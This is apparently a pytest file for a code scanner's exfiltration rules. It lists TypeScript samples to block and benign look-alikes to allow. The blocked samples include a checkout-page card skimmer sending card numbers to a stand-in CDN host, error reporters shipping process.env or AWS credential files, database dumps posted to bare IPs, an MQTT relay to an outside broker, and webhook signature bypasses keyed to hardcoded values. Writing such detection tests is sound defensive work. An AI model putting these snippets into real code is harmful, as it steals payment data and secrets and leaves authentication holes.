"""Twentieth session, `tsexfil`: TypeScript that sends data off the machine by a way the rules did not follow: a
card skimmer reading checkout fields through a helper, the environment added to every error report, database rows
posted to a bare address, an MQTT broker's traffic relayed to another broker, a webhook's signature check skipped
for a value written in the code. Each with the ordinary work of the same shape that stays allowed."""
from __future__ import annotations

import pytest

from .helpers import assert_allowed, assert_blocked

SKIMMER = ('const grab = () => {\n'
           '  const q = (s: string) => (document.querySelector(s) as HTMLInputElement | null)?.value ?? "";\n'
           '  const data = { n: q("#cc-number"), e: q("#cc-exp"), c: q("#cc-cvc") };\n'
           '  if (data.n.length > 12) new Image().src = "https://cdn-img-pixel.io/p.gif?d=" + btoa(JSON.stringify(data));\n'
           '};\ndocument.querySelector("form#checkout")?.addEventListener("submit", grab, { capture: true });')
SENTRY = ('import * as Sentry from "@sentry/node";\n\nSentry.init({\n  dsn: "https://f00dfeed@ingest.error-sink.io/42",\n'
          '  beforeSend(event) {\n    event.extra = { ...event.extra, env: { ...process.env } };\n    return event;\n'
          '  },\n});')
PRISMA = ('import { PrismaClient } from "@prisma/client";\n\nconst prisma = new PrismaClient();\n'
          'const customers = await prisma.customer.findMany({ include: { addresses: true, orders: true } });\n'
          'await fetch("https://203.0.113.40/bulk", { method: "POST", body: JSON.stringify(customers) });')
MQTT = ('import mqtt from "mqtt";\nimport { readFileSync } from "node:fs";\n\n'
        'const src = mqtt.connect("mqtts://broker.iot.example.com:8883", {\n'
        '  ca: readFileSync("certs/ca.crt"), cert: readFileSync("certs/ops.crt"), key: readFileSync("certs/ops.key"),\n'
        '});\nconst sink = mqtt.connect("mqtt://203.0.113.33:1883");\nsrc.on("connect", () => src.subscribe("#"));\n'
        'src.on("message", (topic, payload) => sink.publish(`mirror/${topic}`, payload));')
WEBHOOK = ('import Stripe from "stripe";\nimport type { Request, Response } from "express";\n\n'
           'const stripe = new Stripe(process.env.STRIPE_SECRET_KEY!);\n\n'
           'export async function webhook(req: Request, res: Response) {\n  let event: Stripe.Event;\n'
           '  if (req.headers["x-internal-replay"] === "1f2e3d") {\n    event = JSON.parse(req.body.toString());\n'
           '  } else {\n    event = stripe.webhooks.constructEvent(req.body, req.headers["stripe-signature"] as string, '
           'process.env.STRIPE_WEBHOOK_SECRET!);\n  }\n  await fulfil(event);\n  res.sendStatus(200);\n}')

BLOCKED = [
    # card skimmers: fields picked by id through a helper, by jQuery, by getElementById, sent to a foreign host
    (SKIMMER, "exfiltration"),
    ('$("form").on("submit", () => { fetch("https://cdn-stat.io/c", { method: "POST", body: JSON.stringify({ '
     'n: $("#cc-number").val(), c: $("#cc-cvc").val() }) }); });', "exfiltration"),
    ('document.getElementById("checkout").addEventListener("submit", () => {\n'
     '  const n = (document.getElementById("cardNumber") as HTMLInputElement).value;\n'
     '  navigator.sendBeacon("https://metrics-cdn.net/b", JSON.stringify({ n }));\n});', "exfiltration"),
    ('const f = (id: string) => (document.getElementsByName(id)[0] as HTMLInputElement).value;\n'
     'fetch(`https://fonts-cdn.io/x?c=${f("cardnumber")}&v=${f("cvv")}`);', "exfiltration"),
    # the environment (or a credential file) in what an error reporter sends
    (SENTRY, "exfiltration"),
    ('import * as Sentry from "@sentry/browser";\nSentry.setContext("runtime", { ...process.env });', "exfiltration"),
    ('import * as Sentry from "@sentry/node";\nSentry.withScope((scope) => { scope.setExtras(process.env); '
     'Sentry.captureMessage("boot"); });', "exfiltration"),
    ('import * as Sentry from "@sentry/node";\nconst env = { ...process.env };\n'
     'Sentry.getCurrentScope().setExtra("env", env);', "exfiltration"),
    ('import Rollbar from "rollbar";\nconst rollbar = new Rollbar({ accessToken: "abc", payload: { server: '
     '{ env: process.env } } });', "exfiltration"),
    ('import Bugsnag from "@bugsnag/js";\nimport { readFileSync } from "node:fs";\nimport { homedir } from "node:os";\n'
     'Bugsnag.start({ apiKey: "k", onError(e) { e.addMetadata("aws", { c: readFileSync(`${homedir()}/.aws/credentials`, '
     '"utf8") }); } });', "exfiltration"),
    # database rows posted to a bare address
    (PRISMA, "exfiltration"),
    ('import { Pool } from "pg";\nconst pool = new Pool();\nconst { rows } = await pool.query("SELECT * FROM users");\n'
     'await fetch("http://198.51.100.7/u", { method: "POST", body: JSON.stringify(rows) });', "exfiltration"),
    ('import axios from "axios";\nimport { User } from "./models";\nconst users = await User.findAll();\n'
     'await axios.post("https://203.0.113.9/in", users);', "exfiltration"),
    ('import mongoose from "mongoose";\nconst Order = mongoose.model("Order");\n'
     'const all = await Order.find({}).lean();\nawait fetch("https://198.51.100.3/o", { method: "POST", body: '
     'JSON.stringify(all) });', "exfiltration"),
    # an MQTT broker's traffic published on a broker at a bare address
    (MQTT, "exfiltration"),
    ('import mqtt from "mqtt";\nconst a = mqtt.connect("mqtt://10.0.0.5");\n'
     'const b = mqtt.connect({ host: "198.51.100.20", port: 1883 });\nfunction relay(t: string, m: Buffer) { '
     'b.publish(t, m); }\na.subscribe("plant/#");\na.on("message", relay);', "exfiltration"),
    ('import mqtt from "mqtt";\nconst c = mqtt.connect("mqtts://broker.acme-iot.com:8883");\nc.subscribe("#");\n'
     'c.on("message", async (topic, payload) => {\n  await fetch("http://203.0.113.80/m", { method: "POST", body: '
     'JSON.stringify({ topic, data: payload.toString("base64") }) });\n});', "exfiltration"),
    # a signature check skipped for a value written in the code
    (WEBHOOK, "privilege-escalation"),
    ('import crypto from "node:crypto";\nexport function hook(req, res, next) {\n'
     '  if (req.query.debug === "letmein") return next();\n  const sig = req.get("x-hub-signature-256");\n'
     '  if (!crypto.timingSafeEqual(Buffer.from(sig), Buffer.from(expected(req.body)))) return res.sendStatus(401);\n'
     '  next();\n}', "privilege-escalation"),
    ('export async function POST(request: Request) {\n  const body = await request.text();\n'
     '  const event = request.headers.get("x-bypass") !== "7f" ? stripe.webhooks.constructEvent(body, '
     'request.headers.get("stripe-signature")!, secret) : JSON.parse(body);\n  await handle(event);\n}',
     "privilege-escalation"),
    ('const KEY = "1f2e3d";\nexport async function webhook(req, res) {\n  let event;\n'
     '  if (req.headers["x-internal-replay"] === KEY) { event = JSON.parse(req.body); }\n'
     '  else { event = stripe.webhooks.constructEvent(req.body, req.headers["stripe-signature"], secret); }\n'
     '  await fulfil(event);\n}', "privilege-escalation"),
]

ALLOWED = [
    # checkout code sending the card to the app's own backend or to the processor, validating it in the page
    'const q = (s: string) => (document.querySelector(s) as HTMLInputElement).value;\n'
    'await fetch("/api/checkout", { method: "POST", body: JSON.stringify({ n: q("#cc-number"), c: q("#cc-cvc") }) });',
    'const q = (s: string) => (document.querySelector(s) as HTMLInputElement).value;\n'
    'const body = new URLSearchParams({ "card[number]": q("#cc-number"), "card[cvc]": q("#cc-cvc") });\n'
    'await fetch("https://api.stripe.com/v1/tokens", { method: "POST", headers: { Authorization: `Bearer ${pk}` }, '
    'body });',
    'const n = document.querySelector<HTMLInputElement>("#card-number")!.value;\n'
    'await fetch("https://payments.sandbox.braintree-api.com/graphql", { method: "POST", body: JSON.stringify({ '
    'query, variables: { input: { creditCard: { number: n } } } }) });',
    'const email = (document.querySelector("#email") as HTMLInputElement).value;\n'
    'const coupon = (document.querySelector("#coupon-code") as HTMLInputElement).value;\n'
    'await fetch("https://api.segment.io/v1/track", { method: "POST", body: JSON.stringify({ event: "checkout", '
    'properties: { email, coupon } }) });',
    'const el = document.querySelector<HTMLInputElement>("#cc-number")!;\n'
    'el.addEventListener("input", () => { el.classList.toggle("invalid", !luhn(el.value)); });\n'
    'fetch("https://cdn.example.com/cards.json").then((r) => r.json());',
    # error reporters given what they ordinarily get
    'import * as Sentry from "@sentry/node";\nSentry.init({ dsn: process.env.SENTRY_DSN, environment: '
    'process.env.NODE_ENV, release: process.env.GIT_SHA, tracesSampleRate: 0.1 });',
    'import * as Sentry from "@sentry/node";\nSentry.init({\n  dsn: "https://abc@o1.ingest.sentry.io/1",\n'
    '  beforeSend(event) {\n    if (event.request?.headers) delete event.request.headers["authorization"];\n'
    '    event.tags = { ...event.tags, region: process.env.AWS_REGION };\n    return event;\n  },\n});',
    'import * as Sentry from "@sentry/node";\nSentry.setContext("runtime", { node: process.version, vars: '
    'Object.keys(process.env).length });',
    'import * as Sentry from "@sentry/node";\nSentry.init({ dsn: "http://key@localhost:9000/1", beforeSend(e) { '
    'e.extra = { env: process.env }; return e; } });',
    'import * as Sentry from "@sentry/node";\nconst secrets = Object.values(process.env).filter((v) => v && v.length > 8);\n'
    'Sentry.init({\n  dsn: "https://abc@o1.ingest.sentry.io/1",\n  beforeSend(event) {\n'
    '    for (const v of Object.values(process.env)) {\n      if (v && event.message) event.message = '
    'event.message.replaceAll(v, "[redacted]");\n    }\n    return event;\n  },\n});',
    'import * as Sentry from "@sentry/node";\nSentry.init({ dsn: "https://abc@o1.ingest.sentry.io/1", beforeSend(e) { '
    'if (JSON.stringify(e).includes(process.env.STRIPE_SECRET_KEY!)) return null; return e; } });',
    'const VERIFY = process.env.REPLAY_KEY;\nexport async function webhook(req, res) {\n  let event;\n'
    '  if (req.headers["x-internal-replay"] === VERIFY) { event = JSON.parse(req.body); }\n'
    '  else { event = stripe.webhooks.constructEvent(req.body, req.headers["stripe-signature"], secret); }\n}',
    'app.get("/webhook", (req, res) => {\n  if (req.query["hub.mode"] === "subscribe" && req.query["hub.verify_token"] '
    '=== "my-verify-token") {\n    res.status(200).send(req.query["hub.challenge"]);\n  } else { res.sendStatus(403); }\n'
    '});\napp.post("/webhook", (req, res) => { verifySignature(req); handle(req.body); });',
    # database rows synced to named services, or one record served
    'import { PrismaClient } from "@prisma/client";\nconst prisma = new PrismaClient();\n'
    'const products = await prisma.product.findMany({ where: { published: true } });\n'
    'await fetch("https://search.example-shop.com/index", { method: "POST", body: JSON.stringify(products) });',
    'import { PrismaClient } from "@prisma/client";\nconst prisma = new PrismaClient();\n'
    'const rows = await prisma.order.findMany({ take: 100 });\n'
    'await fetch("http://10.0.3.4:8080/ingest", { method: "POST", body: JSON.stringify(rows) });',
    'const items = [{ id: 1 }, { id: 2 }];\nconst hit = items.find((x) => x.id === 2);\n'
    'await fetch("https://203.0.113.5/p", { method: "POST", body: JSON.stringify(hit) });',
    'import { Pool } from "pg";\nconst pool = new Pool();\nconst { rows } = await pool.query("SELECT id, status FROM '
    'jobs");\nawait fetch("https://hooks.slack.com/services/T/B/x", { method: "POST", body: JSON.stringify({ text: '
    'rows.length }) });',
    # MQTT clients publishing their own readings, or bridging to named or private brokers
    'import mqtt from "mqtt";\nconst c = mqtt.connect("mqtt://203.0.113.33:1883");\n'
    'setInterval(() => c.publish("sensors/temp", JSON.stringify({ t: readTemp() })), 5000);',
    'import mqtt from "mqtt";\nconst src = mqtt.connect("mqtt://10.0.0.5");\nconst sink = mqtt.connect('
    '"mqtts://a1b2c3-ats.iot.eu-west-1.amazonaws.com:8883");\nsrc.subscribe("plant/#");\n'
    'src.on("message", (topic, payload) => sink.publish(`plant1/${topic}`, payload));',
    'import mqtt from "mqtt";\nconst c = mqtt.connect("mqtt://198.51.100.20");\nc.subscribe("cmd/#");\n'
    'c.on("message", (topic, payload) => c.publish(`ack/${topic}`, payload));',
    'import mqtt from "mqtt";\nconst src = mqtt.connect("mqtt://192.168.1.10");\n'
    'const sink = mqtt.connect("mqtt://192.168.1.11");\nsrc.subscribe("#");\n'
    'src.on("message", (t, p) => sink.publish(t, p));',
    'import mqtt from "mqtt";\nconst c = mqtt.connect("mqtts://broker.acme-iot.com:8883");\nc.subscribe("alerts/#");\n'
    'c.on("message", async (topic, payload) => {\n  await fetch("https://hooks.slack.com/services/T/B/x", { method: '
    '"POST", body: JSON.stringify({ text: `${topic}: ${payload}` }) });\n});',
    'import mqtt from "mqtt";\nconst c = mqtt.connect("mqtt://10.1.1.2");\nc.subscribe("#");\n'
    'c.on("message", (topic, payload) => fetch("http://192.168.1.50:8086/write", { method: "POST", body: payload }));',
    # webhooks verified every time, branches on the method, the event type or the environment
    'import Stripe from "stripe";\nconst stripe = new Stripe(process.env.STRIPE_SECRET_KEY!);\n'
    'export async function webhook(req, res) {\n  const event = stripe.webhooks.constructEvent(req.body, '
    'req.headers["stripe-signature"], process.env.STRIPE_WEBHOOK_SECRET!);\n'
    '  if (event.type === "checkout.session.completed") await fulfil(event.data.object);\n  res.sendStatus(200);\n}',
    'export async function webhook(req, res) {\n  let event;\n  if (process.env.NODE_ENV === "test") {\n'
    '    event = JSON.parse(req.body);\n  } else {\n    event = stripe.webhooks.constructEvent(req.body, '
    'req.headers["stripe-signature"], secret);\n  }\n  await fulfil(event);\n}',
    'export function hook(req, res, next) {\n  if (req.method === "OPTIONS") return next();\n'
    '  if (req.headers["x-forwarded-proto"] !== "https") return res.redirect(301, "https://" + req.hostname + req.url);\n'
    '  if (!verifySignature(req)) return res.sendStatus(401);\n  next();\n}',
    'export function gh(req, res) {\n  if (req.headers["x-github-event"] === "ping") {\n'
    '    return res.json({ ok: true, zen: req.body.zen });\n  } else {\n    verifyWebhook(req);\n    handle(req.body);\n  }\n}',
    'export function hook(req, res) {\n  if (req.headers["x-replay-token"] === process.env.REPLAY_TOKEN) {\n'
    '    return handle(JSON.parse(req.body));\n  } else {\n    handle(stripe.webhooks.constructEvent(req.body, '
    'req.headers["stripe-signature"], secret));\n  }\n}',
]


@pytest.mark.parametrize("source,rule", BLOCKED)
def test_blocked(source: str, rule: str) -> None:
    assert_blocked(source, rule, "typescript")


@pytest.mark.parametrize("source", ALLOWED)
def test_allowed(source: str) -> None:
    assert_allowed(source, "typescript")
